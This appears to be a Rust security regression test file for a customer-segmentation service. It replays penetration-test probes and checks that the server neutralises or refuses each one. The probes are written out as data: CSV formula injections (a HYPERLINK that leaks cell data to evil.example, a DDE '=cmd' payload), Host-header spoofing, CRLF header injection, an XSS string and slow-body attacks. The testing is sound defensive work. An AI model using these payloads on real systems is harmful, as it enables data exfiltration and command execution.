//! Hostile input is normal input: every probe of a hostile tester that once got through, as a
//! test (numbered as in the penetration test's report), the hostile-input corpus (`tests/fixtures/hostile/`, plus large files made at run
//! time) and a property test of the import parser.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::time::Duration;

use reqwest::Method;
use serde_json::{Value, json};

use crate::helpers::{
    Answer, PASSWORD, Pages, TestApp, browser_client, csrf_token, policies_dir, poll_blocking,
    spawn_app, spawn_app_with, stderr, stdout,
};
use crate::imports::{counts, post_csv};
use crate::segmentation::{blob_customers, grant_all, import, publish, segment, wait_for};

// ------------------------------------------------------------------------------------------
// Raw HTTP, for what a well-behaved client cannot send.

/// Connects to the test server.
fn connect(app: &TestApp) -> TcpStream {
    let addr = app.address.trim_start_matches("http://");
    let stream = TcpStream::connect(addr).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    stream
}

/// Everything the server sends until it closes the connection (or 20 s pass).
fn read_until_closed(stream: &mut TcpStream) -> String {
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        match stream.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => out.extend_from_slice(&buf[..n]),
            Err(e) => panic!(
                "the server kept the connection open: {e}; received so far: {}",
                String::from_utf8_lossy(&out)
            ),
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

// ------------------------------------------------------------------------------------------
// 1. Preference links follow the public URL, never the Host header.

#[tokio::test]
async fn preference_links_are_built_from_the_public_url_whatever_the_host_headers_say() {
    let app = spawn_app().await;
    app.add_customer("P1", "{}");
    for (header, value) in [
        ("X-Forwarded-Host", "evil.example"),
        ("Host", "evil.example"),
        ("Forwarded", "host=evil.example;proto=https"),
        ("X-Forwarded-Proto", "gopher"),
    ] {
        let body = app
            .api(
                "compliance",
                Method::POST,
                "/api/v1/customers/P1/preference-link",
            )
            .header(header, value)
            .expecting(201)
            .await;
        let url = body["url"].as_str().unwrap();
        assert!(
            url.starts_with(&format!("{}/preferences/", app.address)),
            "{header}: {value} gave {url}"
        );
    }
}

#[test]
fn serve_refuses_to_start_without_a_valid_public_url_naming_the_setting() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("fairseg.db");
    let serve = |public_url: Option<&str>| {
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_fairseg"));
        command
            .args(["serve", "--addr", "127.0.0.1:0"])
            .current_dir(dir.path())
            .env("FAIRSEG_DATABASE_URL", &db)
            .env("FAIRSEG_POLICIES", policies_dir())
            .env("FAIRSEG_SPOOL_DIR", dir.path().join("spool"))
            .env_remove("FAIRSEG_PUBLIC_URL")
            .env("NO_COLOR", "1");
        if let Some(url) = public_url {
            command.env("FAIRSEG_PUBLIC_URL", url);
        }
        // A server that starts anyway must fail the test, not hang it.
        let mut child = command
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        if poll_blocking(Duration::from_secs(20), || child.try_wait().unwrap()).is_some() {
            return child.wait_with_output().unwrap();
        }
        child.kill().unwrap();
        panic!("serve started with public URL {public_url:?}");
    };
    for url in [
        None,
        Some("fairseg.example.com"),
        Some("https://u:p@x.example"),
    ] {
        let out = serve(url);
        assert_eq!(out.status.code(), Some(1), "{url:?}");
        let message = stderr(&out);
        assert!(
            message.contains("public-url (FAIRSEG_PUBLIC_URL)"),
            "{url:?}: {message}"
        );
        assert!(!stdout(&out).contains("serving"));
    }
}

// ------------------------------------------------------------------------------------------
// 2. Formula cells are neutralised in every CSV meant for spreadsheets.

/// Customers and consents for a run whose first customers' ids are formulas.
fn formula_customers(app: &TestApp) {
    let (customers, truth) = blob_customers(10, 11);
    let formulas = |csv: String| {
        csv.replace(
            "C0000,",
            "\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",",
        )
        .replace("C0001,", "@SUM(A1),")
        .replace("C0002,", "-2+3,")
    };
    import(app, "customers", &formulas(customers));
    let mut consents = String::from("customer_id,purpose,status,recorded_at\n");
    for i in 0..truth.len() {
        for p in ["segmentation", "marketing_email"] {
            consents.push_str(&format!("C{i:04},{p},granted,2026-01-01\n"));
        }
    }
    import(app, "consents", &formulas(consents));
}

fn assert_neutralised(csv: &str, what: &str) {
    for line in csv.lines() {
        let first = line.trim_start_matches('"');
        assert!(
            !first.starts_with(['=', '+', '@']) && !first.starts_with("-2"),
            "{what}: a formula cell is written as it is: {line}"
        );
    }
    for cell in ["'=HYPERLINK", "'@SUM(A1)", "'-2+3"] {
        assert!(csv.contains(cell), "{what}: {cell} missing in\n{csv}");
    }
}

#[tokio::test]
async fn member_activation_and_cli_exports_neutralise_formula_cells() {
    let app = spawn_app().await;
    formula_customers(&app);
    let run = segment(
        &app,
        &["--algorithm", "kmeans", "--k", "3", "--features", "x,y"],
    )["run_id"]
        .as_i64()
        .unwrap();
    publish(&app, run);

    let members = app
        .api(
            "marketing",
            Method::GET,
            &format!("/api/v1/segmentations/{run}/members"),
        )
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_neutralised(&members, "members API");

    let client = app.sign_in("marketing").await;
    let mut activation = String::new();
    for segment in 0..3 {
        let response = client
            .get(app.url(&format!(
                "/segments/{run}/{segment}/export.csv?channel=email"
            )))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200);
        activation.push_str(&response.text().await.unwrap());
    }
    assert_neutralised(&activation, "activation export");

    let out = app.cli(&["members", &run.to_string()]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_neutralised(&stdout(&out), "fairseg members");
}

#[tokio::test]
async fn the_kpi_log_csv_neutralises_a_formula_segment_name() {
    let app = spawn_app().await;
    let (customers, truth) = blob_customers(10, 12);
    import(&app, "customers", &customers);
    grant_all(&app, truth.len(), &["segmentation"]);
    let run = segment(
        &app,
        &["--algorithm", "kmeans", "--k", "3", "--features", "x,y"],
    )["run_id"]
        .as_i64()
        .unwrap();
    publish(&app, run);
    app.api(
        "marketing",
        Method::PATCH,
        &format!("/api/v1/segmentations/{run}/segments/0"),
    )
    .json(&json!({"name": "=cmd|' /C calc'!A0"}))
    .expecting(204)
    .await;
    app.api("analyst", Method::POST, "/api/v1/kpi/evaluate")
        .json(&json!({"period": "month"}))
        .expecting(201)
        .await;
    let client = app.sign_in("analyst").await;
    let csv = client.page(app.url("/kpi/log.csv")).await;
    assert!(csv.contains(",'=cmd|' /C calc'!A0,"), "{csv}");
    assert!(!csv.contains(",=cmd"), "{csv}");
}

#[tokio::test]
async fn the_audit_csv_neutralises_an_override_justification() {
    let app = spawn_app().await;
    crate::audits::load_demo(&app, 1500, true);
    let run = segment(
        &app,
        &["--algorithm", "kmeans", "--k", "5", "--features", "zone"],
    );
    let audit_id = run["audit"]["id"].as_i64().unwrap();
    assert_eq!(run["audit"]["verdict"], "fail", "{}", run["audit"]);
    let justification = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Reviewed with legal\")";
    let response = app
        .api(
            "compliance",
            Method::POST,
            &format!("/api/v1/audits/{audit_id}/override"),
        )
        .json(&json!({ "justification": justification }))
        .send()
        .await
        .unwrap();
    assert!(
        response.status().is_success(),
        "{}",
        response.text().await.unwrap()
    );
    let csv = app
        .api(
            "compliance",
            Method::GET,
            &format!("/api/v1/audits/{audit_id}?format=csv"),
        )
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let cell = reader
        .records()
        .map(|r| r.unwrap())
        .find(|r| &r[5] == "justification")
        .expect("the override is in the CSV")[6]
        .to_string();
    assert_eq!(cell, format!("'{justification}"));
}

// ------------------------------------------------------------------------------------------
// 3. An unterminated quote is an error where it opened, and nothing is imported.

#[tokio::test]
async fn an_unterminated_quote_is_refused_at_the_line_where_it_opened() {
    let app = spawn_app().await;
    let before = counts(&app);
    let (status, body) = post_csv(
        &app,
        "customers",
        "",
        b"customer_id,x\nQ1,\"abc\nQ2,d\n".to_vec(),
    )
    .await;
    assert_eq!(status, 400, "{body}");
    let error = &body["report"]["errors"][0];
    assert_eq!(error["line"], 2, "{body}");
    assert_eq!(error["column"], "x", "{body}");
    assert!(
        error["reason"].as_str().unwrap().contains("never closed"),
        "{body}"
    );
    assert_eq!(counts(&app), before);

    // A closed quote may hold a newline.
    let (status, body) = post_csv(
        &app,
        "customers",
        "",
        b"customer_id,x\nQ1,\"abc\nQ2,d\"\nQ3,e\n".to_vec(),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(body["rows_imported"], 2);
}

// ------------------------------------------------------------------------------------------
// 4. Security headers.

#[tokio::test]
async fn pages_and_api_answers_carry_the_security_headers_and_personal_data_is_not_cached() {
    let app = spawn_app().await;
    app.add_customer("H1", r#"{"city":"Leeds"}"#);
    let page = browser_client()
        .get(app.url("/signin"))
        .send()
        .await
        .unwrap();
    let api = app
        .api("compliance", Method::GET, "/api/v1/customers/H1")
        .send()
        .await
        .unwrap();
    let export = app
        .api("compliance", Method::GET, "/api/v1/customers/H1/export")
        .send()
        .await
        .unwrap();
    let refused = api_request(&app, "/api/v1/trail").await;
    for (what, response) in [
        ("sign-in page", &page),
        ("customer view", &api),
        ("DSR export", &export),
        ("401", &refused),
    ] {
        let h = response.headers();
        let csp = h
            .get("content-security-policy")
            .unwrap_or_else(|| panic!("{what}: no CSP"))
            .to_str()
            .unwrap();
        for directive in [
            "default-src 'none'",
            "frame-ancestors 'none'",
            "form-action 'self'",
        ] {
            assert!(csp.contains(directive), "{what}: {csp}");
        }
        assert!(!csp.contains("unsafe-inline"), "{what}: {csp}");
        assert_eq!(h["x-frame-options"], "DENY", "{what}");
        assert_eq!(h["x-content-type-options"], "nosniff", "{what}");
        assert_eq!(h["referrer-policy"], "no-referrer", "{what}");
        assert_eq!(h["cache-control"], "no-store", "{what}");
        assert!(h.get("strict-transport-security").is_none(), "{what}");
    }
    // The stylesheet holds nothing personal and may be cached.
    let css = browser_client()
        .get(app.url("/static/app.css"))
        .send()
        .await
        .unwrap();
    assert_eq!(css.headers()["cache-control"], "public, max-age=3600");

    let tls = spawn_app_with(|s| s.cookie_secure = true).await;
    let page = browser_client()
        .get(tls.url("/signin"))
        .send()
        .await
        .unwrap();
    assert!(
        page.headers()["strict-transport-security"]
            .to_str()
            .unwrap()
            .starts_with("max-age=")
    );
}

async fn api_request(app: &TestApp, path: &str) -> reqwest::Response {
    crate::helpers::api_client()
        .get(app.url(path))
        .send()
        .await
        .unwrap()
}

// ------------------------------------------------------------------------------------------
// 5. Marketing writes only to runs it may read; strategies to the published run only.

#[tokio::test]
async fn strategies_and_names_are_refused_on_runs_marketing_cannot_read_or_that_are_not_published()
{
    let app = spawn_app().await;
    let (customers, truth) = blob_customers(10, 13);
    import(&app, "customers", &customers);
    grant_all(&app, truth.len(), &["segmentation"]);
    let run = |app: &TestApp| {
        segment(
            app,
            &["--algorithm", "kmeans", "--k", "3", "--features", "x,y"],
        )["run_id"]
            .as_i64()
            .unwrap()
    };
    let (retired, published, draft) = (run(&app), run(&app), run(&app));
    publish(&app, retired);
    publish(&app, published);
    let strategy = json!({"channel": "email", "offer": "10% off", "service_level": "priority", "favourable": true});
    let write = |run: i64| {
        let strategy = strategy.clone();
        let app = &app;
        async move {
            let put = app
                .api(
                    "marketing",
                    Method::PUT,
                    &format!("/api/v1/segmentations/{run}/segments/0/strategy"),
                )
                .json(&strategy)
                .send()
                .await
                .unwrap()
                .status()
                .as_u16();
            let patch = app
                .api(
                    "marketing",
                    Method::PATCH,
                    &format!("/api/v1/segmentations/{run}/segments/0"),
                )
                .json(&json!({"name": "Renamed"}))
                .send()
                .await
                .unwrap()
                .status()
                .as_u16();
            (put, patch)
        }
    };
    let (status, _) = app
        .get_json("marketing", &format!("/api/v1/segmentations/{draft}"))
        .await;
    assert_eq!(status, 404, "marketing cannot read the draft");
    assert_eq!(
        write(draft).await,
        (404, 404),
        "a draft is not there for marketing"
    );
    assert_eq!(write(retired).await, (409, 409), "a retired run is history");
    assert!(
        app.trail("action=segment.").await.is_empty(),
        "nothing was recorded"
    );
    // The strategy form on the dashboard goes through the same rule.
    let client = app.sign_in("marketing").await;
    let page = client.page(app.url("/segments")).await;
    let form = client
        .post_form(
            app.url(&format!("/segments/{draft}/0/strategy")),
            &page,
            &[
                ("channel", "email"),
                ("offer", "x"),
                ("service_level", "y"),
                ("favourable", "on"),
            ],
        )
        .await;
    assert_eq!(form.status(), 404);
    assert!(app.trail("action=segment.").await.is_empty());

    assert_eq!(write(published).await, (204, 204));
    assert_eq!(app.trail("action=segment.").await.len(), 2);
}

// ------------------------------------------------------------------------------------------
// 6. The upload spool lives in the server's own directory and is cleared at start.

/// Starts `fairseg serve` on a free port; returns the process and its address.
fn start_server(dir: &Path, db: &str, spool: &Path) -> (std::process::Child, String) {
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_fairseg"))
        .args(["serve", "--addr", "127.0.0.1:0"])
        .current_dir(dir)
        .env("FAIRSEG_DATABASE_URL", db)
        .env("FAIRSEG_POLICIES", policies_dir())
        .env("FAIRSEG_PUBLIC_URL", "http://127.0.0.1:8080")
        .env("FAIRSEG_SPOOL_DIR", spool)
        .env("FAIRSEG_KPI_SCHEDULE", "off")
        .env("NO_COLOR", "1")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.as_mut().unwrap()),
        &mut line,
    )
    .unwrap();
    let address = line
        .split("http://")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .unwrap_or_else(|| panic!("the server did not say where it serves: {line}"))
        .to_string();
    (child, address)
}

fn spooled(spool: &Path) -> Vec<PathBuf> {
    std::fs::read_dir(spool)
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default()
}

#[tokio::test]
async fn an_upload_spooled_when_the_server_is_killed_is_removed_at_the_next_start() {
    let app = spawn_app().await;
    let spool = app.dir.path().join("server-spool");
    let token = app.token("admin");
    let (mut server, address) = start_server(app.dir.path(), &app.database.url, &spool);

    // An import whose body is still arriving when the server is killed.
    let mut stream = TcpStream::connect(&address).unwrap();
    let first = "customer_id,city\nS1,Leeds\n".repeat(100);
    write!(
        stream,
        "POST /api/v1/imports/customers HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {token}\r\nContent-Type: text/csv\r\nContent-Length: 100000\r\n\r\n{first}"
    )
    .unwrap();
    let arrived = poll_blocking(Duration::from_secs(10), || {
        spooled(&spool)
            .iter()
            .any(|p| std::fs::metadata(p).is_ok_and(|m| m.len() > 0))
            .then_some(())
    });
    assert!(
        arrived.is_some(),
        "the upload never reached the spool directory"
    );
    let leftover = spooled(&spool);
    assert_eq!(leftover.len(), 1, "{leftover:?}");
    assert!(
        leftover[0]
            .file_name()
            .unwrap()
            .to_str()
            .unwrap()
            .starts_with("upload-")
    );
    server.kill().unwrap(); // SIGKILL: nothing of the server runs after it.
    server.wait().unwrap();
    assert!(leftover[0].exists(), "the crash left the spooled upload");
    std::fs::write(spool.join("notes.txt"), "not ours").unwrap();

    let (mut server, _) = start_server(app.dir.path(), &app.database.url, &spool);
    let left: Vec<String> = spooled(&spool)
        .iter()
        .map(|p| p.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    server.kill().unwrap();
    server.wait().unwrap();
    assert_eq!(
        left,
        ["notes.txt"],
        "the next start removes the leftover upload, and only it"
    );
    drop(stream);
}

// ------------------------------------------------------------------------------------------
// 7. Cell size and column count limits.

#[tokio::test]
async fn cells_and_rows_beyond_the_limits_are_refused_with_their_place() {
    let app = spawn_app_with(|s| {
        s.import_limits.max_cell_bytes = 1024;
        s.import_limits.max_attribute_columns = 20;
    })
    .await;
    let before = counts(&app);
    let big = format!("customer_id,note\nA,small\nB,{}\n", "x".repeat(1025));
    let (status, body) = post_csv(&app, "customers", "", big.into_bytes()).await;
    assert_eq!(status, 400, "{body}");
    let error = &body["report"]["errors"][0];
    assert_eq!(
        (error["line"].as_u64(), error["column"].as_str()),
        (Some(3), Some("note"))
    );
    assert!(
        error["reason"]
            .as_str()
            .unwrap()
            .contains("longer than 1024 bytes"),
        "{body}"
    );
    let header: Vec<String> = (0..21).map(|i| format!("a{i}")).collect();
    let wide = format!("customer_id,{}\n", header.join(","));
    let (status, body) = post_csv(&app, "customers", "", wide.into_bytes()).await;
    assert_eq!(status, 400, "{body}");
    let error = &body["report"]["errors"][0];
    assert_eq!(error["line"], 1, "{body}");
    assert!(
        error["reason"]
            .as_str()
            .unwrap()
            .contains("more than 21 fields"),
        "{body}"
    );
    assert_eq!(counts(&app), before);
    // At the limits, the file imports.
    let header: Vec<String> = (0..20).map(|i| format!("a{i}")).collect();
    let ok = format!(
        "customer_id,{}\nA,{}{}\n",
        header.join(","),
        "y".repeat(1024),
        ",1".repeat(19)
    );
    let (status, body) = post_csv(&app, "customers", "", ok.into_bytes()).await;
    assert_eq!(status, 201, "{body}");
}

#[test]
fn import_limit_settings_are_validated_at_start_naming_the_setting() {
    let dir = tempfile::tempdir().unwrap();
    for (env, value, setting) in [
        (
            "FAIRSEG_IMPORT_MAX_CELL_BYTES",
            "0",
            "import-max-cell-bytes",
        ),
        ("FAIRSEG_IMPORT_MAX_COLUMNS", "0", "import-max-columns"),
        ("FAIRSEG_BODY_TIMEOUT_SECONDS", "0", "body-timeout-seconds"),
        (
            "FAIRSEG_REQUEST_TIMEOUT_SECONDS",
            "0",
            "request-timeout-seconds",
        ),
    ] {
        // Every command validates the settings it shares with `serve` before doing anything
        // (`migrate` exits rather than serving when a check is missing).
        let out = crate::helpers::run_cli(
            dir.path(),
            dir.path().join("x.db").to_str().unwrap(),
            &["migrate"],
            &[(env, value)],
        );
        assert_eq!(out.status.code(), Some(1), "{env}");
        assert!(stderr(&out).contains(setting), "{env}: {}", stderr(&out));
    }
}

// ------------------------------------------------------------------------------------------
// 8. Slow bodies time out.

// Multi-threaded: the raw socket blocks this thread while the server answers on another.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_body_that_stalls_is_answered_408_and_the_connection_closed() {
    let app = spawn_app_with(|s| s.body_timeout = Duration::from_secs(1)).await;
    let started = std::time::Instant::now();
    let mut stream = connect(&app);
    write!(
        stream,
        "POST /api/v1/auth/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{{\"email\":"
    )
    .unwrap();
    let answer = read_until_closed(&mut stream);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(started.elapsed() < Duration::from_secs(15));

    // The anonymous sign-in form too (its CSRF check reads the body first).
    let client = browser_client();
    let page = client.get(app.url("/signin")).send().await.unwrap();
    let pre = page
        .cookies()
        .find(|c| c.name() == "fairseg_pre")
        .unwrap()
        .value()
        .to_string();
    let mut stream = connect(&app);
    write!(
        stream,
        "POST /signin HTTP/1.1\r\nHost: x\r\nCookie: fairseg_pre={pre}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nemail=a%40"
    )
    .unwrap();
    let answer = read_until_closed(&mut stream);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
}

// Multi-threaded: the raw socket blocks this thread while the server answers on another.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_head_that_never_ends_is_dropped() {
    let app = spawn_app_with(|s| s.request_timeout = Duration::from_secs(1)).await;
    let mut stream = connect(&app);
    write!(stream, "GET /healthz HTTP/1.1\r\nHost: x\r\n").unwrap();
    let answer = read_until_closed(&mut stream);
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 408"),
        "{answer}"
    );
}

// ------------------------------------------------------------------------------------------
// 9. `next` with control characters.

#[tokio::test]
async fn a_next_with_a_header_injection_falls_back_home() {
    let app = spawn_app().await;
    let client = browser_client();
    let response = app
        .submit_sign_in(
            &client,
            &[
                ("email", "admin@example.test"),
                ("password", PASSWORD),
                ("next", "/x\r\nSet-Cookie: evil=1"),
            ],
        )
        .await;
    assert_eq!(response.status(), 303);
    assert_eq!(response.headers()["location"], "/");
    assert!(response.cookies().all(|c| c.name() != "evil"));
    // The sign-in page does not carry it into its form either.
    let page = client
        .get(app.url("/signin?next=%2Fx%0D%0ASet-Cookie%3A%20evil%3D1"))
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 303, "signed in: sent on");
    assert_eq!(page.headers()["location"], "/");
}

// ------------------------------------------------------------------------------------------
// 10. Page parameters are bounded.

#[tokio::test]
async fn trail_pages_outside_the_bounds_are_refused() {
    let app = spawn_app().await;
    for page in [
        "9223372036854775807",
        "0",
        "-1",
        "1000001",
        "1.5",
        "99999999999999999999",
    ] {
        let (status, body) = app
            .get_json("compliance", &format!("/api/v1/trail?page={page}"))
            .await;
        assert_eq!(status, 400, "page={page}: {body}");
    }
    let (status, body) = app.get_json("compliance", "/api/v1/trail?page=1").await;
    assert_eq!(status, 200);
    assert_eq!(body["page"], 1);
    assert!(body["pages"].is_i64(), "{body}");
}

// ------------------------------------------------------------------------------------------
// 11. Look-alike staff e-mails.

#[tokio::test]
async fn look_alike_staff_emails_are_refused_and_others_normalised() {
    let app = spawn_app().await;
    let create = |email: &str| {
        app.api("admin", Method::POST, "/api/v1/users")
            .json(
                &json!({"email": email, "role": "analyst", "password": "a long enough passphrase"}),
            )
            .send()
    };
    for email in [
        "\u{430}dmin@example.test",
        "ad\u{200d}min@example.test",
        "ad\u{200b}min@example.test",
        "admin\u{202e}tset.elpmaxe@example.test",
        "<script>alert(1)</script>@example.test",
        "admin@ex\u{430}mple.test",
    ] {
        let response = create(email).await.unwrap();
        assert_eq!(response.status(), 400, "{email:?}");
        let body: Value = response.json().await.unwrap();
        assert_eq!(body["error"]["field"], "email", "{email:?}");
    }
    let response = create("\u{ff2f}ps@Example.TEST").await.unwrap();
    assert_eq!(response.status(), 201);
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["email"], "ops@example.test", "{body}");
}

// ------------------------------------------------------------------------------------------
// 12. `as_of` in the future, and runs with fewer segments than asked.

#[tokio::test]
async fn an_as_of_in_the_future_is_refused() {
    let app = spawn_app().await;
    app.add_customer("F1", "{}");
    let (status, body) = app
        .get_json("compliance", "/api/v1/customers/F1?as_of=9999-12-31")
        .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["error"]["field"], "as_of");
    let tomorrow = (chrono::Utc::now() + chrono::Duration::days(1)).date_naive();
    let (status, _) = app
        .get_json(
            "compliance",
            &format!("/api/v1/customers/F1?as_of={tomorrow}"),
        )
        .await;
    assert_eq!(status, 200);

    let body = app
        .api("analyst", Method::POST, "/api/v1/segmentations")
        .json(&json!({"algorithm": "rfm", "as_of": "9999-12-31"}))
        .expecting(400)
        .await;
    assert_eq!(body["error"]["field"], "as_of", "{body}");

    // Nor is a KPI period that has not come written into the log.
    let body = app
        .api("analyst", Method::POST, "/api/v1/kpi/evaluate")
        .json(&json!({"as_of": (tomorrow + chrono::Days::new(40)).to_string()}))
        .expecting(400)
        .await;
    assert_eq!(body["error"]["field"], "as_of", "{body}");
    let later = (tomorrow + chrono::Days::new(40)).to_string();
    let out = app.cli(&["kpi", "evaluate", "--as-of", &later]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("--as-of"), "{}", stderr(&out));
    let out = app.cli(&["segment", "--algorithm", "rfm", "--as-of", &later]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("as_of"), "{}", stderr(&out));
}

#[tokio::test]
async fn a_run_that_yields_fewer_segments_than_asked_fails_saying_so() {
    let app = spawn_app().await;
    // Twelve customers, but only two distinct points.
    let mut customers = String::from("customer_id,x\n");
    for i in 0..12 {
        customers.push_str(&format!("C{i:04},{}\n", i % 2));
    }
    import(&app, "customers", &customers);
    grant_all(&app, 12, &["segmentation"]);
    let body = app
        .api("analyst", Method::POST, "/api/v1/segmentations")
        .json(&json!({"algorithm": "kmeans", "k": 3, "features": ["x"]}))
        .expecting(202)
        .await;
    let run = wait_for(&app, body["run_id"].as_i64().unwrap()).await;
    assert_eq!(run["status"], "failed", "{run}");
    let reason = run["error"].as_str().unwrap();
    assert!(reason.contains("asked for 3 segments"), "{reason}");
    assert!(run["segments"].as_array().unwrap().is_empty());
}

// ------------------------------------------------------------------------------------------
// 13. The form sign-in's 429 says when to try again.

#[tokio::test]
async fn the_sign_in_forms_429_carries_retry_after() {
    let app = spawn_app().await;
    let client = browser_client();
    let page = client.get(app.url("/signin")).send().await.unwrap();
    let csrf = csrf_token(&page.text().await.unwrap());
    let mut last = None;
    for _ in 0..6 {
        let response = client
            .post(app.url("/signin"))
            .form(&[
                ("csrf_token", csrf.as_str()),
                ("email", "admin@example.test"),
                ("password", "wrong wrong wrong"),
            ])
            .send()
            .await
            .unwrap();
        if response.status() == 429 {
            last = Some(response);
            break;
        }
        assert_eq!(response.status(), 401);
    }
    let refused = last.expect("the throttle refuses the sixth attempt");
    let wait: u64 = refused.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=3600).contains(&wait), "{wait}");
}

// ------------------------------------------------------------------------------------------
// 14. Tokens may not live longer than the configured TTL.

#[tokio::test]
async fn a_token_living_longer_than_the_ttl_is_refused() {
    let app = spawn_app().await;
    let user = app.user("admin");
    let long = fairseg::auth::token::TokenKeys::new(&app.secret, chrono::Duration::days(3650));
    let (token, _) = long.issue(&user.id, user.token_version);
    let response = crate::helpers::api_client()
        .get(app.url("/api/v1/me"))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 401);
    app.api("admin", Method::GET, "/api/v1/me")
        .expecting(200)
        .await;
}

// ------------------------------------------------------------------------------------------
// 15. A panic inside a run fails the run and the worker goes on.

static PANIC_ON_RUN: std::sync::atomic::AtomicI64 = std::sync::atomic::AtomicI64::new(-1);

fn panicking_execute(
    db: &fairseg::db::Db,
    policy: &fairseg::policy::Policy,
    run_id: i64,
) -> Result<fairseg::app::runs::RunOutcome, fairseg::app::runs::RunError> {
    if run_id == PANIC_ON_RUN.load(std::sync::atomic::Ordering::SeqCst) {
        panic!("boom in run {run_id}");
    }
    fairseg::app::runs::execute(db, policy, run_id)
}

#[tokio::test]
async fn a_run_that_panics_is_failed_with_the_message_and_later_runs_still_execute() {
    use fairseg::app::jobs::{Jobs, nothing_after};
    // No worker of the server's own: the runs go to the panicking executor below.
    let app = spawn_app_with(|s| s.jobs.workers = 0).await;
    let (customers, truth) = blob_customers(10, 14);
    import(&app, "customers", &customers);
    grant_all(&app, truth.len(), &["segmentation"]);
    let request: fairseg::segmentation::settings::RunRequest =
        serde_json::from_value(json!({"algorithm": "kmeans", "k": 3, "features": ["x", "y"]}))
            .unwrap();
    let create = || {
        fairseg::app::runs::create(
            &app.db,
            &app.policy,
            &fairseg::trail::Actor::cli(),
            &request,
        )
        .unwrap()
    };
    // Both runs are queued, and the one to panic named, before any worker starts: workers
    // claim queued runs from the database, so one started earlier could take the first run
    // before it is named.
    let (first, second) = (create(), create());
    PANIC_ON_RUN.store(first, std::sync::atomic::Ordering::SeqCst);
    let jobs = Jobs::start_with(
        app.db.clone(),
        app.policy.clone(),
        fairseg::config::JobSettings::default(),
        panicking_execute,
        nothing_after,
    )
    .unwrap();
    jobs.submit(first);
    jobs.submit(second);
    let second_run = wait_for(&app, second).await;
    assert_eq!(second_run["status"], "draft", "{second_run}");
    let first_run = wait_for(&app, first).await;
    assert_eq!(first_run["status"], "failed", "{first_run}");
    assert!(
        first_run["error"]
            .as_str()
            .unwrap()
            .contains(&format!("boom in run {first}")),
        "{first_run}"
    );
}

// ------------------------------------------------------------------------------------------
// The hostile-input corpus: one test per file, each a located error with nothing changed or
// a correct import.

fn hostile(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/hostile")
        .join(name)
}

/// What importing a corpus file must do.
enum Expect<'a> {
    /// Refused: the first error's line, column and a phrase of its reason.
    Error {
        line: u64,
        column: Option<&'a str>,
        reason: &'a str,
    },
    /// Imported: so many customers, and these values stored for (id, column).
    Imports {
        customers: i64,
        values: &'a [(&'a str, &'a str, &'a str)],
    },
}

fn import_corpus_file(app: &TestApp, path: &Path, expect: Expect<'_>) {
    let before = counts(app);
    let out = app.cli(&["import", "customers", path.to_str().unwrap(), "--json"]);
    let report: Value = serde_json::from_str(&stdout(&out))
        .unwrap_or_else(|e| panic!("{e}: {} {}", stdout(&out), stderr(&out)));
    match expect {
        Expect::Error {
            line,
            column,
            reason,
        } => {
            assert_eq!(out.status.code(), Some(1), "{report}");
            let error = &report["errors"][0];
            assert_eq!(error["line"].as_u64(), Some(line), "{report}");
            assert_eq!(error["column"].as_str(), column, "{report}");
            assert!(
                error["reason"].as_str().unwrap().contains(reason),
                "{report}"
            );
            assert_eq!(counts(app), before, "nothing changed");
        }
        Expect::Imports { customers, values } => {
            assert!(out.status.success(), "{report} {}", stderr(&out));
            assert_eq!(
                report["rows_imported"].as_i64(),
                Some(customers),
                "{report}"
            );
            assert_eq!(counts(app)[0], before[0] + customers);
            for (id, column, value) in values {
                let stored: String = app
                    .db
                    .read(|c| {
                        use diesel::prelude::*;
                        use fairseg::db::schema::customers::dsl;
                        Ok(dsl::customers
                            .filter(dsl::external_id.eq(*id))
                            .select(dsl::attributes)
                            .first(c)?)
                    })
                    .unwrap_or_else(|e| panic!("customer {id:?}: {e}"));
                let stored: Value = serde_json::from_str(&stored).unwrap();
                assert_eq!(stored[*column], json!(value), "{id:?}.{column}");
            }
        }
    }
}

macro_rules! corpus {
    ($($test:ident: $file:literal => $expect:expr;)+) => {$(
        #[tokio::test]
